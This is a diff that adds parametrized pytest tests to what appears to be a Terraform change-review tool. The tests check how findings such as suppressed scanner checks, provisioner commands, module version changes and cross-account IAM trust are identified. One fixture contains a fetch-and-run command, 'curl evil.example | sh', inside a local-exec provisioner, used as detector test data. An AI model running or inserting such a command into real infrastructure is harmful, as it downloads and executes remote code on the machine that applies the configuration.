@@ -178,3 +178,48 @@ def test_an_expression_is_part_of_the_question_and_its_spelling_is_not() -> None
     assert bound(opened(text + RULE % "[ var.a , ]")) == bound(one)
     assert bound(opened(text + RULE % "[var.b]")) != bound(one)
     assert bound(opened(text + RULE % '[var.a, "10.0.0.0/8"]')) != bound(one)
+
+
+def one_of(rule: str, before: dict[str, str], after: dict[str, str]) -> Result:
+    (found,) = [item for item in review({"p.tf": PROVIDER, **before}, {"p.tf": PROVIDER, **after}).results if item.rule == rule]
+    return found
+
+
+SKIP = 'resource "aws_s3_bucket" "%s" {\n  #checkov:skip=CKV_AWS_18:reason\n  bucket = "%s"\n}\n'
+PLAIN_BUCKET = 'resource "aws_s3_bucket" "%s" {\n  bucket = "%s"\n}\n'
+RUN = 'resource "aws_s3_bucket" "a" {\n  provisioner "local-exec" {\n    command = "%s"\n  }\n}\n'
+MODULE = 'module "cdn" {\n  source  = "acme/cdn/aws"\n  version = "%s"\n}\n'
+ROLE = """resource "aws_iam_role" "deploy" {
+  assume_role_policy = jsonencode({
+    Statement = [{Effect = "Allow", Action = "sts:AssumeRole", Principal = {AWS = "arn:aws:iam::123456789012:root"}%s}]
+  })
+}
+"""
+
+
+@pytest.mark.parametrize(
+    ("rule", "before", "one", "other"),
+    [
+        ("guard-file-changed", {"CODEOWNERS": "* @a\n"}, {"CODEOWNERS": "* @a\nx @b\n"}, {"CODEOWNERS": "* @a\nx @c\n"}),
+        (
+            "finding-suppressed",
+            {"a.tf": PLAIN_BUCKET % ("a", "a") + PLAIN_BUCKET % ("b", "b")},
+            {"a.tf": SKIP % ("a", "a") + PLAIN_BUCKET % ("b", "b")},
+            {"a.tf": PLAIN_BUCKET % ("a", "a") + SKIP % ("b", "b")},
+        ),
+        ("command-run-on-apply", {"a.tf": ""}, {"a.tf": RUN % "true"}, {"a.tf": RUN % "curl evil.example | sh"}),
+        ("module-source-new", {"a.tf": ""}, {"a.tf": MODULE % "1.0.0"}, {"a.tf": MODULE % "2.0.0"}),
+        ("aws-account-trusted", {"a.tf": ""}, {"a.tf": ROLE % ", Condition = {StringEquals = {x = 1}}"}, {"a.tf": ROLE % ""}),
+        (
+            "state-moved",
+            {"a.tf": ""},
+            {"a.tf": 'terraform {\n  backend "s3" {\n    bucket = "a"\n    region = "x"\n  }\n}\n'},
+            {"a.tf": 'terraform {\n  backend "s3" {\n    bucket = "a"\n    region = "y"\n  }\n}\n'},
+        ),
+    ],
+)
+def test_what_a_fact_about_a_difference_rests_on(rule: str, before: dict[str, str], one: dict[str, str], other: dict[str, str]) -> None:
+    found = one_of(rule, before, one)
+    shifted = {path: f"# a note\n\n{text}" for path, text in one.items() if path.endswith(".tf")} or one
+    assert bound(one_of(rule, before, shifted)) == bound(found)
+    assert bound(one_of(rule, before, other)) != bound(found)
